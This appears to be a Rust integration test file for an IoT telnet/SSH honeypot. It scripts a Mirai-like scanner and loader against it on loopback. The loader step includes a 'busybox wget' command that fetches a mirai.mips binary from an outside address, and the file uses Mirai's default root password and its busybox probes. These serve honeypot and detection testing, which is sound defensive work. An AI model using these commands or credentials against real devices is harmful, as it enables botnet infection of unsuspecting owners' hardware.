//! `iotscope honeypot` end to end on loopback: a scripted bot of our own
//! (a Mirai-like scanner from 127.0.0.1, then its loader from 127.0.0.2)
//! against the binary; the store holds both sessions linked, the loader's
//! server becomes a blocklist entry, the events file is Cowrie JSON, and
//! `alerts build` turns both addresses into corroborated infected_bot alerts.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

mod common;
use common::{have, skip};

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_iotscope"))
}

/// Starts `iotscope honeypot ARGS` and reads the first line it prints on
/// standard error (the first listener and its bound address); the child and
/// that line.
fn start(args: &[&str], db: &std::path::Path, stdout: Stdio) -> (std::process::Child, String) {
    let (child, line, _) = start_logged(args, db, stdout);
    (child, line)
}

/// [`start`], and the rest of its standard error as it comes (read by a
/// thread until the honeypot exits: a closed pipe would fail its writes).
fn start_logged(
    args: &[&str],
    db: &std::path::Path,
    stdout: Stdio,
) -> (
    std::process::Child,
    String,
    std::sync::Arc<std::sync::Mutex<String>>,
) {
    let mut child = bin()
        .arg("honeypot")
        .args(args)
        .arg("--db")
        .arg(db)
        .stdout(stdout)
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut err = child.stderr.take().unwrap();
    let mut line = Vec::new();
    let mut b = [0u8; 1];
    while !line.ends_with(b"\n") {
        assert_eq!(
            err.read(&mut b).unwrap(),
            1,
            "honeypot exited: {:?}",
            String::from_utf8_lossy(&line)
        );
        line.push(b[0]);
    }
    let log = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    let rest = log.clone();
    std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok(n) = err.read(&mut buf) {
            if n == 0 {
                break;
            }
            rest.lock()
                .unwrap()
                .push_str(&String::from_utf8_lossy(&buf[..n]));
        }
    });
    (child, String::from_utf8_lossy(&line).into_owned(), log)
}

/// The port of `127.0.0.1:PORT` in a listener line.
fn port_of(line: &str) -> String {
    line.split("127.0.0.1:")
        .nth(1)
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .to_string()
}

struct Bot {
    s: TcpStream,
    seen: Vec<u8>,
}

impl Bot {
    fn connect(from: &str, to: SocketAddr) -> Bot {
        let sock =
            socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).unwrap();
        sock.bind(&SocketAddr::new(from.parse().unwrap(), 0).into())
            .unwrap();
        sock.connect_timeout(&to.into(), Duration::from_secs(5))
            .unwrap();
        let s: TcpStream = sock.into();
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        Bot {
            s,
            seen: Vec::new(),
        }
    }
    fn expect(&mut self, marker: &str) -> Vec<u8> {
        let m = marker.as_bytes();
        loop {
            if let Some(i) = self.seen.windows(m.len()).position(|w| w == m) {
                let rest = self.seen.split_off(i + m.len());
                return std::mem::replace(&mut self.seen, rest);
            }
            let mut buf = [0u8; 4096];
            let n = self.s.read(&mut buf).unwrap_or_else(|e| {
                panic!(
                    "{e} before {marker:?}: {:?}",
                    String::from_utf8_lossy(&self.seen)
                )
            });
            assert!(n > 0, "closed before {marker:?}");
            self.seen.extend_from_slice(&buf[..n]);
        }
    }
    fn send(&mut self, line: &str) {
        self.s.write_all(format!("{line}\r\n").as_bytes()).unwrap();
    }
    fn login(&mut self) {
        self.expect("login: ");
        self.send("root");
        self.expect("Password: ");
        self.send("xc3511");
        self.expect("# ");
    }
}

#[test]
fn a_scanner_and_its_loader_reach_the_store_the_blocklist_and_the_alerts() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("h.db");
    let events = dir.path().join("cowrie.json");
    let payloads = dir.path().join("payloads");
    let (mut child, text) = start(
        &[
            "--telnet",
            "127.0.0.1:0",
            "--persona",
            "mips-router",
            "--sensor",
            "hp-test",
            "--login-fail-delay",
            "0s",
            "--duration",
            "60s",
            "--format",
            "json",
            "--seed",
            "9",
            "--events",
            events.to_str().unwrap(),
            "--payloads",
            payloads.to_str().unwrap(),
        ],
        &db,
        Stdio::piped(),
    );
    let addr: SocketAddr = text
        .split_whitespace()
        .find(|w| w.starts_with("127.0.0.1:"))
        .unwrap()
        .parse()
        .unwrap();
    assert!(text.contains("as mips-router (hp-test)"), "{text}");

    let mut scan = Bot::connect("127.0.0.1", addr);
    scan.login();
    for l in ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"] {
        scan.send(l);
    }
    scan.expect("MIRAI: applet not found");
    scan.send("exit");
    let mut rest = Vec::new();
    let _ = scan.s.read_to_end(&mut rest);

    let mut load = Bot::connect("127.0.0.2", addr);
    load.login();
    load.send("/bin/busybox cat /bin/echo; /bin/busybox ECCHI");
    let elf = load.expect("ECCHI: applet not found");
    let at = elf.windows(4).position(|w| w == b"\x7fELF").unwrap();
    assert_eq!((elf[at + 5], elf[at + 19]), (2, 8), "big-endian MIPS");
    load.send("cd /var; /bin/busybox wget http://11.0.9.7:8080/bins/mirai.mips -O - > .d; /bin/busybox ECCHI");
    load.expect("ECCHI: applet not found");
    load.send("exit");
    let _ = load.s.read_to_end(&mut rest);

    // SIGTERM: the honeypot stops and says what it did.
    let deadline = Instant::now() + Duration::from_secs(10);
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let out = loop {
        if let Some(_status) = child.try_wait().unwrap() {
            let mut s = String::new();
            child.stdout.take().unwrap().read_to_string(&mut s).unwrap();
            break s;
        }
        assert!(Instant::now() < deadline, "no exit after SIGTERM");
        std::thread::sleep(Duration::from_millis(50));
    };
    let summary: serde_json::Value = serde_json::from_str(out.trim()).unwrap();
    assert_eq!(summary["sessions"], 2);
    assert_eq!(summary["logins"], 2);
    assert_eq!(summary["linked"], 1);

    let conn = rusqlite::Connection::open(&db).unwrap();
    let rows: Vec<(String, String, Option<String>)> = conn
        .prepare("SELECT src_ip, reason, linked_ip FROM honeypot_sessions ORDER BY start_ns")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(
        rows,
        vec![
            ("127.0.0.1".into(), "exit".into(), None),
            ("127.0.0.2".into(), "exit".into(), Some("127.0.0.1".into()))
        ]
    );
    let url: String = conn
        .query_row("SELECT url FROM honeypot_downloads", [], |r| r.get(0))
        .unwrap();
    assert_eq!(url, "http://11.0.9.7:8080/bins/mirai.mips");

    // The events are Cowrie's.
    let ev: Vec<serde_json::Value> = std::fs::read_to_string(&events)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(
        ev.iter()
            .filter(|e| e["eventid"] == "cowrie.session.connect")
            .count(),
        2
    );
    assert!(ev
        .iter()
        .all(|e| e["sensor"] == "hp-test" && e["timestamp"].as_str().unwrap().ends_with('Z')));
    assert!(ev
        .iter()
        .any(|e| e["eventid"] == "cowrie.command.input" && e["input"] == "/bin/busybox MIRAI"));

    // The loader's server is on the blocklist.
    let list = dir.path().join("list.txt");
    let st = bin()
        .args(["blocklist", "export", "--format", "plain", "--db"])
        .arg(&db)
        .arg("--out")
        .arg(&list)
        .status()
        .unwrap();
    assert!(st.success());
    assert!(std::fs::read_to_string(&list)
        .unwrap()
        .lines()
        .any(|l| l == "11.0.9.7"));

    // Both bots are corroborated infections.
    let st = bin()
        .args(["alerts", "build", "--db"])
        .arg(&db)
        .status()
        .unwrap();
    assert!(st.success());
    let out = bin()
        .args(["alerts", "list", "--format", "json", "--db"])
        .arg(&db)
        .output()
        .unwrap();
    let alerts: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let bots: Vec<(&str, &str)> = alerts
        .iter()
        .filter(|a| a["problem"] == "infected_bot")
        .map(|a| {
            (
                a["ip"].as_str().unwrap(),
                a["evidence"]["role"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert_eq!(
        bots,
        vec![("127.0.0.1", "scanner"), ("127.0.0.2", "loader")],
        "{alerts:?}"
    );
    assert!(alerts
        .iter()
        .all(|a| a["evidence"]["evidence_level"] == "corroborated"));
}

#[test]
fn bad_flags_say_what_is_wrong() {
    let out = bin()
        .args(["honeypot", "--db", "/nonexistent/x.db"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("--telnet ADDR:PORT"));
    let out = bin()
        .args(["honeypot", "--telnet", "localhost:23"])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("expected ADDR:PORT"));
    let out = bin()
        .args([
            "honeypot",
            "--telnet",
            "127.0.0.1:0",
            "--persona",
            "toaster",
        ])
        .output()
        .unwrap();
    let e = String::from_utf8_lossy(&out.stderr);
    assert!(
        e.contains("no such persona") && e.contains("hisilicon-dvr"),
        "{e}"
    );
    // The spool given as the store: refused before either file is made.
    let dir = tempfile::tempdir().unwrap();
    let same = dir.path().join("same.db");
    let out = bin()
        .args(["honeypot", "--telnet", "127.0.0.1:0", "--db"])
        .arg(&same)
        .arg("--spool")
        .arg(&same)
        .output()
        .unwrap();
    let e = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{e}");
    assert!(e.contains("is the store itself"), "{e}");
    assert!(!same.exists());
}

/// OpenSSH logs in with sshpass: an exec request and an interactive shell
/// get the same emulated device; a wrong password is refused and recorded.
#[test]
fn openssh_clients_see_the_device_over_ssh() {
    if !have("ssh") || !have("sshpass") {
        return skip("ssh or sshpass not installed");
    }
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    let (mut child, text) = start(
        &[
            "--ssh",
            "127.0.0.1:0",
            "--persona",
            "arm-camera",
            "--sensor",
            "hp-ssh",
            "--login-fail-delay",
            "0s",
            "--duration",
            "60s",
            "--status",
            "0s",
            "--seed",
            "3",
        ],
        &db,
        Stdio::null(),
    );
    assert!(text.contains("ssh on 127.0.0.1:"), "{text}");
    let port = port_of(&text);
    let ssh = |password: &str, args: &[&str]| {
        Command::new("sshpass")
            .args([
                "-p",
                password,
                "ssh",
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
            ])
            .args([
                "-o",
                "LogLevel=ERROR",
                "-o",
                "NumberOfPasswordPrompts=1",
                "-o",
                "ConnectTimeout=10",
                "-p",
                &port,
            ])
            .args(args)
            .output()
            .unwrap()
    };
    let out = ssh(
        "xc3511",
        &[
            "root@127.0.0.1",
            "uname -m; /bin/busybox MIRAI; cat /proc/cpuinfo | grep Hardware",
        ],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    // Standard error comes on the same stream (as through a pty).
    assert_eq!(
        stdout, "armv5tejl\nMIRAI: applet not found\nHardware\t: Faraday GM8126\n",
        "{out:?}"
    );
    let out = ssh("not-in-the-list", &["root@127.0.0.1", "id"]);
    assert!(!out.status.success());
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let deadline = Instant::now() + Duration::from_secs(10);
    while child.try_wait().unwrap().is_none() {
        assert!(Instant::now() < deadline, "no exit after SIGTERM");
        std::thread::sleep(Duration::from_millis(50));
    }
    let conn = rusqlite::Connection::open(&db).unwrap();
    let rows: Vec<(String, Option<String>, String)> = conn
        .prepare("SELECT protocol, username, reason FROM honeypot_sessions ORDER BY start_ns")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(rows[0], ("ssh".into(), Some("root".into()), "exit".into()));
    assert_eq!(rows[1].1, None);
    let failed: String = conn
        .query_row(
            "SELECT password FROM honeypot_logins WHERE success = 0",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(failed, "not-in-the-list");
}

/// Nmap's service detection and its telnet-brute script, as a researcher
/// would point them at a suspected honeypot: a BusyBox telnetd, and the
/// Mirai pairs work.
#[test]
fn nmap_sees_a_busybox_telnetd_whose_default_pairs_work() {
    if !have("nmap") {
        return skip("nmap not installed");
    }
    let dir = tempfile::tempdir().unwrap();
    let (mut child, text) = start(
        &[
            "--telnet",
            "127.0.0.1:0",
            "--status",
            "0s",
            "--duration",
            "120s",
            "--login-fail-delay",
            "0s",
            "--max-per-source",
            "64",
        ],
        &dir.path().join("n.db"),
        Stdio::null(),
    );
    let port = port_of(&text);
    std::fs::write(dir.path().join("users"), "admin\nroot\n").unwrap();
    std::fs::write(dir.path().join("passwords"), "not-a-mirai-password\n").unwrap();
    let out = Command::new("nmap")
        .args([
            "-Pn",
            "-n",
            "-sT",
            "-sV",
            "-p",
            &port,
            "--script",
            "telnet-brute",
            "--script-args",
        ])
        .arg(format!(
            "userdb={},passdb={},brute.firstonly=false",
            dir.path().join("users").display(),
            dir.path().join("passwords").display()
        ))
        .args(["-oX", "-", "127.0.0.1"])
        .output()
        .unwrap();
    let _ = child.kill();
    let _ = child.wait();
    let xml = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{xml}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(xml.contains(r#"name="telnet""#), "{xml}");
    assert!(xml.contains("BusyBox telnetd"), "{xml}");
    // The script tries each user name as its password first: admin:admin
    // and root:root are Mirai pairs, so each user's first guess works.
    assert!(xml.contains("admin:admin - Valid credentials"), "{xml}");
    assert!(xml.contains("root:root - Valid credentials"), "{xml}");
}

/// With a spool, the honeypot keeps the sessions a PostgreSQL store
/// refuses while its server is down, and they reach the store in order,
/// each once, before the next session after the server is back; those
/// still waiting when it stops go with `store forward`.
#[cfg(feature = "postgres")]
#[test]
fn sessions_during_a_database_outage_wait_in_the_spool_and_arrive_once() {
    let Some((pg, url)) = common::OwnPostgres::start() else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let spool = dir.path().join("h.spool");
    let (mut child, text, log) = start_logged(
        &[
            "--telnet",
            "127.0.0.1:0",
            "--sensor",
            "hp-spool",
            "--login-fail-delay",
            "0s",
            "--duration",
            "120s",
            "--format",
            "json",
            "--spool",
            spool.to_str().unwrap(),
        ],
        std::path::Path::new(&url),
        Stdio::piped(),
    );
    let addr: SocketAddr = format!("127.0.0.1:{}", port_of(&text)).parse().unwrap();
    let session = |marker: &str| {
        let mut b = Bot::connect("127.0.0.1", addr);
        b.login();
        b.send(&format!("/bin/busybox {marker}"));
        b.expect(&format!("{marker}: applet not found"));
        b.send("exit");
        let mut rest = Vec::new();
        let _ = b.s.read_to_end(&mut rest);
        // The session is recorded once it ends.
        std::thread::sleep(Duration::from_millis(700));
    };
    let stored = |url: &str| -> Vec<String> {
        let mut c = postgres::Client::connect(url, postgres::NoTls).unwrap();
        c.query(
            "SELECT string_agg(input, ' ' ORDER BY seq) FROM honeypot_commands
             WHERE sensor = 'hp-spool' GROUP BY session ORDER BY min(at_ns)",
            &[],
        )
        .map(|rows| rows.iter().map(|r| r.get::<_, String>(0)).collect())
        .unwrap_or_default()
    };
    session("ONE");
    pg.run("stop");
    session("TWO");
    session("THREE");
    pg.run("start");
    session("FOUR");
    let got = stored(&url);
    assert_eq!(got.len(), 4, "{got:?}");
    for (line, want) in got.iter().zip(["ONE", "TWO", "THREE", "FOUR"]) {
        assert!(line.contains(want), "{got:?}");
    }
    // Down again, and the honeypot stops before the server is back.
    pg.run("stop");
    session("FIVE");
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let st = child.wait().unwrap();
    assert!(st.success());
    std::thread::sleep(Duration::from_millis(200));
    let said = log.lock().unwrap().clone();
    for expect in [
        "sessions go to the spool",
        "forwarded 2 spooled entries",
        "the store takes sessions again",
        "1 entries wait in the spool",
    ] {
        assert!(said.contains(expect), "{expect:?} not in {said}");
    }
    pg.run("start");
    for expect in [1, 0] {
        let o = bin()
            .args([
                "store", "forward", "--format", "json", "--db", &url, "--spool",
            ])
            .arg(&spool)
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        assert_eq!(
            (v["forwarded"].as_u64(), v["waiting"].as_u64()),
            (Some(expect), Some(0)),
            "{v}"
        );
    }
    let got = stored(&url);
    assert_eq!(got.len(), 5, "{got:?}");
    assert!(got[4].contains("FIVE"), "{got:?}");
}
